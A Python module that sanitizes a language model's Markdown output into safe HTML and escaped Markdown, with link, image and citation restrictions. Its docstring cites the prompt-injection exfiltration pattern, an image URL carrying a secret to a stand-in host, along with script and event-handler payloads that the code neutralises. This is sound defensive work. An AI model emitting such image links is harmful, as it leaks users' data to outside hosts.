"""Model text to HTML that can never be active, and to Markdown that cannot either.

Contract of :func:`markdown_to_html`:

* **No raw HTML.** markdown-it-py's ``commonmark`` preset runs with
  ``html=False``: a ``<script>`` or ``<img onerror=...>`` in the text comes out
  as visible, escaped text.
* **An allowlist, twice.** The rendered HTML then goes through ``nh3`` (the
  Ammonia sanitizer) with the tags and attributes in :data:`ALLOWED_TAGS` /
  :data:`ALLOWED_ATTRIBUTES` only: no event handlers, no ``style``, no ``class``,
  no ``id``, no ``<iframe>``/``<form>``/``<svg>``.
* **Only ``data:`` images load.** An image whose source is not a
  ``data:image/(png|jpeg|gif|webp)`` URI is rendered as text naming the URL
  (the classic prompt-injection exfiltration, ``![x](http://host/?d=secret)``,
  makes no request); the sanitizer's attribute filter drops any other ``src``
  that slipped through.
* **Links go nowhere dangerous.** ``href`` keeps only ``http``, ``https`` and
  ``mailto`` URLs (``javascript:``, ``data:``, ``vbscript:``, ``file:`` are
  dropped), an in-page ``#`` link only to a snippet anchor (``#hm-src-N``), and
  every link gets ``rel="noopener noreferrer"``.
* **A citation links to its own snippet and nowhere else.** Given
  ``citations``, each citation in running text becomes a link to its snippet
  anchor in the token stream, before the sanitizer sees the final HTML; a model
  link whose text holds a citation or a cited id (``[[doc:x]](https://elsewhere)``,
  an autolink) is unlinked and its URL shown as text; citations in code spans, link
  titles, URLs and image text stay text. Classes and ids pass the sanitizer only
  as the renderer's own citation values (:data:`OWN_CLASSES`, snippet anchors).

:func:`escape_markdown_html` is the same promise for the ``.md`` export, whose
viewer may render raw HTML and images: raw HTML and image syntax outside code
become literal text; with ``links=False`` no link syntax survives at all.
:func:`markdown_links` and :func:`text_runs` say what a CommonMark reader makes of a text (its links, its
running text), to check a result.

Both libraries are imported on first use (they are dependencies; the import
costs a few milliseconds).
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass
from functools import lru_cache
from typing import Any, Mapping

__all__ = [
    "markdown_to_html",
    "sanitize_html",
    "escape_markdown_html",
    "markdown_links",
    "text_runs",
    "CitationLink",
    "snippet_anchor",
    "SNIPPET_ANCHOR_RE",
    "ALLOWED_TAGS",
    "ALLOWED_ATTRIBUTES",
    "OWN_CLASSES",
    "LINK_SCHEMES",
    "IMAGE_DATA_PREFIXES",
]

ALLOWED_TAGS = frozenset({
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "code", "pre",
    "blockquote", "ul", "ol", "li", "a", "img", "table", "thead", "tbody", "tr", "th", "td", "del", "s",
    "span", "div", "details", "summary",
})
"""Structure and emphasis only: what CommonMark plus tables can produce."""
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "class"}, "img": {"src", "alt", "title"}, "ol": {"start"},
                      "li": {"id"}, "div": {"class"}}
"""No event handlers or styles; ``class``/``id`` only with the renderer's own citation values (see the filter)."""
OWN_CLASSES = {"a": frozenset({"hm-cite", "hm-cite hm-cite-missing"}), "div": frozenset({"hm-sources"})}
"""The only class values kept: the citation links and the Sources list this module renders."""
SNIPPET_ANCHOR_RE = re.compile(r"hm-src-[1-9][0-9]{0,5}")
"""Ids of a Sources list's entries, the only in-page targets a link may have."""
LINK_SCHEMES = frozenset({"http", "https", "mailto"})
"""Schemes a link may use; a click is needed, and the link carries ``rel=noopener noreferrer``."""
IMAGE_DATA_PREFIXES = ("data:image/png", "data:image/jpeg", "data:image/gif", "data:image/webp")
"""The only image sources kept: inline bitmaps load nothing from anywhere (SVG is left out)."""

_SCHEME = re.compile(r"^\s*([a-zA-Z][a-zA-Z0-9+.\-]*):")


def _safe_image_src(value: str) -> bool:
    return value.strip().lower().startswith(IMAGE_DATA_PREFIXES)


def snippet_anchor(number: int) -> str:
    """The id of the ``number``-th entry of a Sources list (``hm-src-3``)."""
    anchor = f"hm-src-{number}"
    if not SNIPPET_ANCHOR_RE.fullmatch(anchor):
        raise ValueError(f"no snippet anchor for source number {number!r}")
    return anchor


def _safe_href(value: str) -> bool:
    stripped = value.strip()
    if stripped.startswith("#"):  # in-page: only a snippet anchor
        return SNIPPET_ANCHOR_RE.fullmatch(stripped[1:]) is not None
    match = _SCHEME.match(value)
    if match is None:
        return not stripped.startswith("//")  # relative link; never protocol-relative
    return match.group(1).lower() in LINK_SCHEMES


def _attribute_filter(tag: str, attribute: str, value: str) -> str | None:
    if tag == "img" and attribute == "src":
        return value if _safe_image_src(value) else None
    if tag == "a" and attribute == "href":
        return value if _safe_href(value) else None
    if attribute == "class":
        return value if value in OWN_CLASSES.get(tag, ()) else None
    if attribute == "id":
        return value if tag == "li" and SNIPPET_ANCHOR_RE.fullmatch(value) else None
    return value


def sanitize_html(fragment: str) -> str:
    """``fragment`` reduced to :data:`ALLOWED_TAGS`/:data:`ALLOWED_ATTRIBUTES`, safe URLs only."""
    import nh3

    return nh3.clean(
        fragment,
        tags=set(ALLOWED_TAGS),
        clean_content_tags={"script", "style"},
        attributes={k: set(v) for k, v in ALLOWED_ATTRIBUTES.items()},
        attribute_filter=_attribute_filter,
        url_schemes={"http", "https", "mailto", "data"},
        link_rel="noopener noreferrer",
        strip_comments=True,
    )


def _render_image(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = "".join(child.content for child in (token.children or []))
    if _safe_image_src(src):
        return f'<img src="{html.escape(src)}" alt="{html.escape(alt)}"/>'
    shown = src if len(src) <= 120 else src[:119] + "…"
    return (f"<em>[image not loaded: {html.escape(alt or 'image')} — {html.escape(shown)}]</em>")


@dataclass(frozen=True)
class CitationLink:
    """How :func:`markdown_to_html` links one citation."""

    anchor: str
    """Its Sources entry's id (:func:`snippet_anchor`)."""
    title: str = ""
    """Tooltip: the start of the snippet."""
    missing: bool = False
    """The source was not retrieved in the run (styled ``hm-cite-missing``)."""


_CITATIONS_ENV = "hm_citations"


def _inner_texts(tokens: list[Any]) -> str:
    """All text a reader sees in inline ``tokens`` (text, code spans, image descriptions)."""
    parts = []
    for token in tokens:
        if token.type in ("text", "code_inline"):
            parts.append(token.content)
        elif token.type == "image":
            parts.append(_inner_texts(token.children or []))
    return " ".join(parts)


def _cite_children(children: list[Any], pattern: re.Pattern[str], links: Mapping[str, CitationLink]) -> list[Any]:
    from markdown_it.token import Token

    out: list[Any] = []
    i = 0
    while i < len(children):
        token = children[i]
        if token.type == "link_open":
            depth, j = 1, i + 1
            while j < len(children) and depth:
                depth += {"link_open": 1, "link_close": -1}.get(children[j].type, 0)
                j += 1
            inner = children[i + 1 : j - 1]
            shown = _inner_texts(inner)
            if pattern.search(shown) or any(sid in shown for sid in links):  # a cited id links only to its snippet
                if shown.strip() in links:  # ``[doc:x](...)`` or a reference labelled with the id: the citation
                    label = Token("text", "", 0)
                    label.content = f"[{shown.strip()}]"
                    inner = [label]
                out.extend(_cite_children(inner, pattern, links))
                if token.markup != "autolink":
                    target = Token("text", "", 0)
                    target.content = f" ({token.attrGet('href') or ''})"
                    out.append(target)
            else:
                out.extend(children[i:j])
            i = j
            continue
        if token.type != "text" or not pattern.search(token.content):
            out.append(token)
            i += 1
            continue
        pos = 0
        for match in pattern.finditer(token.content):
            link = links.get(match.group(1))
            if link is None:
                continue
            before = Token("text", "", 0)
            before.content = token.content[pos : match.start()]
            opening = Token("link_open", "a", 1)
            opening.attrs = {"class": "hm-cite hm-cite-missing" if link.missing else "hm-cite",
                             "href": f"#{link.anchor}", "title": link.title}
            label = Token("text", "", 0)
            label.content = match.group(0)
            out.extend([before, opening, label, Token("link_close", "a", -1)])
            pos = match.end()
        rest = Token("text", "", 0)
        rest.content = token.content[pos:]
        out.append(rest)
        i += 1
    return out


def _link_citations(state: Any) -> None:
    """Core rule: citations in running text become links to their snippets (see the module contract)."""
    spec = state.env.get(_CITATIONS_ENV)
    if not spec:
        return
    pattern, links = spec
    for block in state.tokens:
        if block.type == "inline" and block.children:
            block.children = _cite_children(block.children, pattern, links)


@lru_cache(maxsize=1)
def _parser() -> Any:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False}).enable("table").enable("strikethrough")
    md.add_render_rule("image", _render_image)
    md.core.ruler.push("hm_citations", _link_citations)
    return md


def markdown_to_html(text: str, *, citations: tuple[re.Pattern[str], Mapping[str, CitationLink]] | None = None,
                     after_html: str = "") -> str:
    """Model text (Markdown) as sanitized HTML (see the module contract).

    ``citations``: ``(pattern, links)``; each match of ``pattern`` whose group 1 is in ``links`` is linked
    to that entry's anchor. ``after_html`` (e.g. the Sources list) is appended before sanitizing: the
    sanitizer sees the whole final fragment.
    """
    env = {_CITATIONS_ENV: citations} if citations else {}
    return sanitize_html(_parser().render(str(text), env) + after_html)


def markdown_links(text: str) -> list[tuple[str, str]]:
    """``(href, text a reader sees)`` of each link CommonMark (with tables, strikethrough) makes of ``text``."""
    found: list[tuple[str, str]] = []
    for block in _parser().parse(str(text)):
        children = block.children or []
        for i, token in enumerate(children):
            if token.type != "link_open":
                continue
            depth, j = 1, i + 1
            while j < len(children) and depth:
                depth += {"link_open": 1, "link_close": -1}.get(children[j].type, 0)
                j += 1
            found.append((str(token.attrGet("href") or ""), _inner_texts(children[i + 1 : j - 1])))
    return found


def text_runs(text: str) -> list[tuple[str, str, bool]]:
    """``(kind, content, inside a link)`` of each stretch of inline text CommonMark makes of ``text``, in order.

    ``kind`` is ``"text"``, ``"code"`` (a code span) or ``"image"`` (an image description); code blocks,
    link destinations and titles are not text a reader sees as running text and are left out.
    """
    runs: list[tuple[str, str, bool]] = []
    for block in _parser().parse(str(text)):
        depth = 0
        for token in block.children or []:
            depth += {"link_open": 1, "link_close": -1}.get(token.type, 0)
            if token.type in ("text", "code_inline"):
                runs.append(("text" if token.type == "text" else "code", token.content, depth > 0))
            elif token.type == "image":
                runs.append(("image", _inner_texts(token.children or []), depth > 0))
    return runs


_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(`+)(.+?)\1", re.S)


_LINK_OPEN = re.compile(r"\]\(")
_SAFE_DESTINATION = re.compile(r"\s*<?\s*(https?://|mailto:|#)", re.I)
_REFERENCE_DEFINITION = re.compile(r"^( {0,3})\[(?=[^\]]+\]:)", re.M)


_ANY_LINK_SYNTAX = re.compile(r"\]([(\[:])")
"""What turns bracketed text into a link or a link definition: ``](``, ``][`` (references), ``]:`` (definitions)."""


def _escape_inline(text: str, links: bool = True) -> str:
    """Raw HTML, images, reference definitions and non-web links in one non-code stretch made literal."""
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    text = text.replace("![", "!\\[")
    text = _REFERENCE_DEFINITION.sub(r"\1\\[", text)
    if not links:
        return _ANY_LINK_SYNTAX.sub(r"]\\\1", text)
    out, pos = [], 0
    for match in _LINK_OPEN.finditer(text):
        safe = _SAFE_DESTINATION.match(text, match.end()) is not None
        out.append(text[pos : match.start()] + ("](" if safe else "]\\("))
        pos = match.end()
    out.append(text[pos:])
    return "".join(out)


def _escape_paragraph(text: str, links: bool = True) -> str:
    out, pos = [], 0
    for match in _CODE_SPAN.finditer(text):
        out.append(_escape_inline(text[pos : match.start()], links))
        out.append(match.group(0))
        pos = match.end()
    out.append(_escape_inline(text[pos:], links))
    return "".join(out)


def escape_markdown_html(text: str, *, links: bool = True) -> str:
    """Markdown whose raw HTML and image syntax render as text; fenced code and code spans stay as written.

    ``<``, ``>`` and ``&`` outside code become entities, ``![`` becomes ``!\\[``
    (no image, hence no request), reference definitions and links to anything
    but ``http(s)``/``mailto``/``#`` lose their link syntax, and an unclosed
    fence is closed, so a Markdown viewer that renders raw HTML shows the
    model's ``<script>`` instead of running it. Indented code blocks
    are treated as text (escaping there only changes how they look).
    ``links=False``: every ``](``, ``][`` and ``]:`` outside code is escaped too, so no link survives.
    """
    lines = str(text).split("\n")
    out: list[str] = []
    fence: str | None = None
    paragraph: list[str] = []

    def flush() -> None:
        if paragraph:
            out.append(_escape_paragraph("\n".join(paragraph), links))
            paragraph.clear()

    for line in lines:
        match = _FENCE.match(line)
        if fence is not None:
            out.append(line)
            if match and match.group(1)[0] == fence[0] and len(match.group(1)) >= len(fence):
                fence = None
            continue
        if match:
            flush()
            fence = match.group(1)
            out.append(line)
            continue
        if not line.strip():
            flush()
            out.append(line)
            continue
        paragraph.append(line)
    flush()
    if fence is not None:  # an unclosed fence would swallow what the export writes after it
        out.append(fence)
    return "\n".join(out)
